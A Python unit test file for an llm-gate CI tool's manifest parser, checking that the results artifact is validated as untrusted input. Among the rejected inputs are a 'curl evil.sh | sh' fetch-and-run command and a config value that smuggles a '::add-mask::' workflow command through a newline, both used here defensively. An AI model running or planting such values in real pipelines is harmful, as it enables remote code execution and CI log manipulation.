"""Unit tests of gate/artifact.py: the results artifact is read as untrusted input."""

from __future__ import annotations

import json
from typing import Any

import pytest

from gate.artifact import MAX_MANIFEST_BYTES, ArtifactError, build_manifest, parse_manifest
from gate.models import Report, Verdict

SHA = "3" * 40
GOOD: dict[str, Any] = {
    "version": 1,
    "pr_number": 42,
    "head_sha": SHA,
    "config": "llm-gate.yml",
    "verdict": "fail",
    "headline": "Regression: support judge −0.40",
    "regressions": 1,
    "regressed_cases": 3,
    "comment": "<!-- llm-gate config=llm-gate.yml -->\nbody",
}


def _parse(data: dict[str, Any]) -> object:
    return parse_manifest(json.dumps(data).encode(), "results/llm-gate-publish.json")


def test_round_trip() -> None:
    """What a run writes is what `mode: publish` reads back."""
    report = Report(Verdict.FAIL, GOOD["headline"], GOOD["comment"], "summary", {}, 1, 3)
    text = build_manifest(report, pr_number=42, head_sha=SHA, config="llm-gate.yml")
    manifest = parse_manifest(text.encode(), "m.json")
    assert manifest.model_dump() == GOOD


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"verdict": "PASS"}, "verdict"),
        ({"verdict": "success"}, "verdict"),
        ({"pr_number": "42"}, "pr_number"),
        ({"pr_number": True}, "pr_number"),
        ({"pr_number": 0}, "pr_number"),
        ({"regressions": 1.0}, "regressions"),
        ({"regressions": -1}, "regressions"),
        ({"version": True}, "version"),
        ({"version": 2}, "version"),
        ({"head_sha": "HEAD"}, "head_sha"),
        ({"headline": "two\nlines"}, "headline"),
        ({"headline": "x" * 141}, "headline"),
        ({"comment": "x" * 65_536}, "comment"),
        ({"config": "a\n::add-mask::b"}, "config"),
        ({"run": "curl evil.sh | sh"}, "run"),
    ],
)
def test_rejects_anything_llm_gate_does_not_write(change: dict[str, Any], field: str) -> None:
    """Wrong types, unknown verdicts, extra keys, oversized text: one line naming the field."""
    with pytest.raises(ArtifactError) as caught:
        _parse({**GOOD, **change})
    message = str(caught.value)
    assert message.startswith(f"results/llm-gate-publish.json: {field}: ")
    assert "\n" not in message and "evil" not in message and "add-mask" not in message


def test_rejects_missing_fields_and_non_objects() -> None:
    """A field left out, a JSON list, bytes that are not JSON: refused."""
    with pytest.raises(ArtifactError, match="verdict: Field required"):
        _parse({k: v for k, v in GOOD.items() if k != "verdict"})
    with pytest.raises(ArtifactError, match="not a JSON object"):
        parse_manifest(b"[1]", "m.json")
    with pytest.raises(ArtifactError, match="not JSON"):
        parse_manifest(b"\xff\xfe", "m.json")


def test_rejects_an_oversized_file_before_parsing() -> None:
    """A file larger than llm-gate ever writes is not even parsed."""
    with pytest.raises(ArtifactError, match="refusing to read it"):
        parse_manifest(b" " * (MAX_MANIFEST_BYTES + 1), "m.json")
